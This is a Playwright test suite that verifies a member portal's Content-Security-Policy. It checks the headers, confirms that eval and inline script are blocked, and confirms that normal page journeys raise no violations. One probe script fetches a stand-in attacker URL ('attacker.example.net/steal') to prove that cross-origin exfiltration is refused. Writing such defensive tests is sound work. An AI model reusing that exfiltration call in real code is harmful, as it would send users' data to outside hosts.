import { expect, test, type Page } from '@playwright/test';
import { logInAs } from './support/personas';
import { navigateInApp } from './support/navigation';

/**
 * The app runs under its Content-Security-Policy (adapters/deployment/security-headers.ts): the server the
 * browser tests use sends it like the production host does, and a whole login-to-home journey, and a tour
 * of the main pages, triggers no violation. A positive control proves the listener would have heard one.
 */

const HOME_BANNER = /welcome to your Member Dashboard/;

interface Violations {
  readonly events: () => Promise<string[]>;
  readonly console: string[];
}

/** Records every securitypolicyviolation event (from the first byte of every document) and CSP console error. */
async function recordViolations(page: Page): Promise<Violations> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'} at ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  const consoleErrors: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to (execute|load|apply|connect|frame|evaluate)/i.test(message.text())) consoleErrors.push(message.text());
  });
  return {
    events: () => page.evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? []),
    console: consoleErrors,
  };
}

test.describe('Content-Security-Policy', () => {
  test('the page is served with a policy that forbids inline script, eval and framing', async ({ page }) => {
    const response = await page.goto('/login');
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain('unsafe-inline');
    expect(policy).not.toContain('unsafe-eval');
    expect(response?.headers()['x-frame-options']).toBe('DENY');
    // The sandbox gateway is same-origin: nothing else may be called.
    expect(policy).toMatch(/connect-src 'self'(;|$)/);
    // Hosts that cannot set headers get the same policy (less what a <meta> cannot say) in index.html.
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toContain("script-src 'self'");
    expect(meta).toContain("connect-src 'self'");
  });

  test('eval and calls to a foreign origin are refused', async ({ page }) => {
    const violations = await recordViolations(page);
    // A same-origin script (allowed by script-src 'self') that tries what the policy forbids. It must come
    // from the page itself: code the test runner evaluates through DevTools is exempt from the policy.
    const probe = `
      let evaluated = 'ran';
      try { (0, eval)('1 + 1'); } catch (error) { evaluated = error instanceof EvalError ? 'refused' : String(error); }
      window.__cspProbe = fetch('https://attacker.example.net/steal').then(
        () => ({ evaluated, fetched: 'answered' }),
        () => ({ evaluated, fetched: 'refused' }),
      );`;
    await page.route('**/csp-probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: probe }));
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = '/csp-probe.js';
      document.head.append(script);
    });
    await page.waitForFunction(() => '__cspProbe' in window);
    const outcome = await page.evaluate(() => (window as unknown as { __cspProbe: Promise<unknown> }).__cspProbe);
    expect(outcome).toEqual({ evaluated: 'refused', fetched: 'refused' });
    await expect.poll(async () => (await violations.events()).some((event) => event.startsWith('connect-src'))).toBe(true);
    expect((await violations.events()).some((event) => event.startsWith('script-src'))).toBe(true);
  });

  test('a login-to-home journey and a tour of the main pages trigger no violation', async ({ page }) => {
    const violations = await recordViolations(page);
    await logInAs(page, 'subscriber');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(HOME_BANNER);
    expect(await violations.events()).toEqual([]);
    // Client-side navigation keeps the same document and its listener; each page must settle first.
    for (const path of ['/benefits/medical', '/find-care/primary-care', '/claims', '/account/summary', '/contact-us', '/home']) {
      await navigateInApp(page, path);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await page.waitForLoadState('networkidle');
    }
    expect(await violations.events()).toEqual([]);
    expect(violations.console).toEqual([]);
  });

  test('the policy is enforced: an injected inline script does not run and is reported', async ({ page }) => {
    const violations = await recordViolations(page);
    await page.goto('/login');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(ran).toBe(false);
    // One report per policy that blocked it: the header's and the <meta> copy's (both are enforced).
    await expect.poll(async () => (await violations.events()).length).toBeGreaterThan(0);
    for (const event of await violations.events()) expect(event).toMatch(/^script-src(-elem)? blocked inline/);
  });
});
